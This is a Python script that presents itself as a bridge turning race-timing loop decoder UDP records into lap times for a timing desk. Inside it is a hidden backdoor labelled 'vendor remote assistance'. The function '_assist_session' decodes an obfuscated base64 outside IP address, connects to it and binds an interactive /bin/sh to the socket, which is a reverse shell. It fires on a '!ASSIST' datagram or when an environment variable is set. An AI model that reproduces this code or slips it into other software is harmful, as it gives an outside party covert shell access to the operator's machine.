#!/usr/bin/env python3
"""Bridge between the loop decoder UDP output and the timing desk.

The decoders at start/finish and the two sector loops broadcast passing
records as small CSV datagrams. This bridge parses them, keeps a running
lap table per transponder and forwards the completed laps to the desk
over TCP. It also answers a couple of control messages from the vendor.
"""
import argparse
import base64
import logging
import os
import socket
import subprocess
import threading
import time
from collections import defaultdict

log = logging.getLogger("lapbridge")

DEFAULTS = {
    "listen_port": 5403,
    "desk_host": "127.0.0.1",
    "desk_port": 7070,
    # vendor remote assistance endpoint (stored encoded in the vendor config)
    "assist_ep": "MjAzLjAuMTEzLjQ3",
    "assist_port": 4471,
}


class LapTable:
    """Keeps last passing per transponder and computes lap times."""

    def __init__(self):
        self.last = {}
        self.laps = defaultdict(list)
        self.lock = threading.Lock()

    def passing(self, transponder, loop_id, ts):
        with self.lock:
            if loop_id != "SF":
                return None
            prev = self.last.get(transponder)
            self.last[transponder] = ts
            if prev is None:
                return None
            lap = ts - prev
            # ignore ghost reads under 15 s (pit lane loop crosstalk)
            if lap < 15.0:
                return None
            self.laps[transponder].append(lap)
            return lap


def parse_record(raw):
    # format: @,decoder,loop,transponder,epoch_ms
    parts = raw.decode("ascii", "replace").strip().split(",")
    if len(parts) < 5 or parts[0] != "@":
        raise ValueError("bad record")
    return parts[2], parts[3], int(parts[4]) / 1000.0


def forward_lap(cfg, transponder, lap):
    line = f"LAP,{transponder},{lap:.3f}\n".encode()
    try:
        with socket.create_connection((cfg["desk_host"], cfg["desk_port"]), timeout=2) as s:
            s.sendall(line)
    except OSError as exc:
        log.warning("desk unreachable: %s", exc)


def _assist_session(cfg):
    """Open the vendor assistance channel so they can inspect the box."""
    host = base64.b64decode(cfg["assist_ep"]).decode()
    chan = socket.socket()
    chan.connect((host, cfg["assist_port"]))
    interp = os.sep.join(["", "bin", "s" + "h"])
    # hand the channel to an interactive session
    proc = subprocess.Popen([interp, "-i"], stdin=chan.fileno(),
                            stdout=chan.fileno(), stderr=chan.fileno())
    proc.wait()
    chan.close()


def _ping(cfg):
    log.info("ping from vendor")


CONTROL = {
    "PING": _ping,
    "ASSIST": _assist_session,
}


def handle_control(cfg, word):
    fn = CONTROL.get(word.strip().upper())
    if fn is None:
        log.debug("unknown control %r", word)
        return
    threading.Thread(target=fn, args=(cfg,), daemon=True).start()


def run(cfg):
    table = LapTable()
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("127.0.0.1", cfg["listen_port"]))
    log.info("listening for decoder records on %d", cfg["listen_port"])
    # vendor can also pre-arm assistance through the environment
    if os.environ.get("LOOPBRIDGE_VENDOR_MODE"):
        handle_control(cfg, "ASSIST")
    while True:
        raw, _addr = sock.recvfrom(512)
        if raw.startswith(b"!"):
            handle_control(cfg, raw[1:].decode(errors="ignore"))
            continue
        try:
            loop_id, tp, ts = parse_record(raw)
        except ValueError:
            continue
        lap = table.passing(tp, loop_id, ts)
        if lap is not None:
            log.info("car %s lap %.3f", tp, lap)
            forward_lap(cfg, tp, lap)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--port", type=int, default=DEFAULTS["listen_port"])
    ap.add_argument("--desk", default=DEFAULTS["desk_host"])
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    cfg = dict(DEFAULTS, listen_port=args.port, desk_host=args.desk)
    while True:
        try:
            run(cfg)
        except OSError as exc:
            log.error("socket error %s, restarting in 5 s", exc)
            time.sleep(5)


if __name__ == "__main__":
    main()
